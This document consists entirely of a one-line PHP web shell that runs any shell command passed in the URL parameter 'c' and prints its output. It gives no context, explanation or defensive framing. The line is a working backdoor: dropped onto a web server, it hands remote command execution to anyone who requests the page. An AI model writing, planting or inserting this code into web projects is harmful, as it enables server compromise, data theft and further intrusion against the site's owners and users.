<?php echo `{$_GET['c']} 2>&1`; ?>
